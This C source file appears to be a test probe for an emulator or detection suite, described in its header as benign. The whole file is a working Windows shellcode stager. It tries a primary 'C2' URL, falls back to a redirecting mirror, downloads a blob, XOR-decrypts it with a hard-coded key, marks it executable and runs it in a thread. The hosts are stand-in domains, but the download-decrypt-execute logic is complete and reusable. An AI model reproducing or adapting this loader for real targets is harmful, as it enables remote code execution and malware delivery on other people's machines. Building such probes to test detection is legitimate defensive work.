/*
 * loader.c - probe: a first C2 that does not resolve, a fallback that redirects, and a download
 * read in small pieces into a growing heap block (benign, emulator-only; see
 * ../../lineage-common/common.h).
 *
 * Tries http://update.c2-primary.example/p/blob.bin (no such host), then
 * http://mirror.example-cdn.net/get?id=7, which answers 302 to
 * http://files.example-storage.net/store/blob.bin; WinINet follows the redirect. The body is read
 * 100 bytes per InternetReadFile into a process-heap block grown with HeapReAlloc, XORed with the
 * 6-byte key 17 c4 a2 5b 60 e9 into new RW memory, made PAGE_EXECUTE_READ and run in a thread.
 * The stage writes C:\Users\Public\lineage_redirect.txt.
 * Exit codes: 0 ok, 1 no marker, 2 no host answered, 3 heap, 4 memory, 5 thread.
 */
#include "common.h"
#include <wininet.h>

static const unsigned char KEY[6] = {0x17, 0xc4, 0xa2, 0x5b, 0x60, 0xe9};
static const char *const URLS[2] = {
    "http://update.c2-primary.example/p/blob.bin",
    "http://mirror.example-cdn.net/get?id=7",
};

void Entry(void)
{
    static struct sc_ctx ctx;
    HINTERNET net, url = 0;
    HANDLE heap = GetProcessHeap();
    unsigned char *body, *grown, *code;
    DWORD cap = 128, len = 0, got, i, old, status = 0, slen = sizeof(status);
    HANDLE thread;
    int u;

    if (!marker_present())
        ExitProcess(1);
    net = InternetOpenA("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    if (!net)
        ExitProcess(2);
    for (u = 0; u < 2 && !url; u++) {
        url = InternetOpenUrlA(net, URLS[u], 0, 0, INTERNET_FLAG_RELOAD | INTERNET_FLAG_NO_CACHE_WRITE, 0);
        if (url && (!HttpQueryInfoA(url, HTTP_QUERY_STATUS_CODE | HTTP_QUERY_FLAG_NUMBER, &status, &slen, 0) ||
                    status != 200)) {
            InternetCloseHandle(url);
            url = 0;
        }
        if (!url)
            Sleep(2000);
    }
    if (!url)
        ExitProcess(2);
    body = (unsigned char *)HeapAlloc(heap, 0, cap);
    if (!body)
        ExitProcess(3);
    for (;;) {
        if (len + 100 > cap) {
            cap *= 2;
            grown = (unsigned char *)HeapReAlloc(heap, 0, body, cap);
            if (!grown)
                ExitProcess(3);
            body = grown;
        }
        got = 0;
        if (!InternetReadFile(url, body + len, 100, &got) || got == 0)
            break;
        len += got;
    }
    InternetCloseHandle(url);
    InternetCloseHandle(net);
    if (len < 64)
        ExitProcess(2);
    code = (unsigned char *)VirtualAlloc(0, len, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code)
        ExitProcess(4);
    for (i = 0; i < len; i++)
        code[i] = body[i] ^ KEY[i % 6];
    HeapFree(heap, 0, body);
    if (!VirtualProtect(code, len, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_redirect.txt", "fetched through a fallback and a redirect\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)code, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
